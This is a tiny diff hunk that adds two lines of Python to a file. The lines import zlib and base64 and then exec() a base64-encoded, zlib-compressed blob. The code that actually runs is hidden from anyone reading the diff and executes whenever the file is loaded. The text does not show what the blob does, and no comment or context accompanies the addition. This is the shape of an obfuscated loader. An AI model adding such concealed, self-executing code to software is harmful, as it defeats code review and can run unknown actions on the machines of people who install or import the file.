@@ -1,0 +1,2 @@
+import zlib, base64
+exec(zlib.decompress(base64.b64decode('eJxVx0EKgCAQQNF9p3Cngmi2CYIOYzmQYI6NU3T83Mbf/JfOisQCmxE35Zw2S3Dd0Hj403ZihaLkwVwX5/w027Hn3SuNiIHD2pgUNgvlSYRF99kxgtJ6+ABbxSLR')))
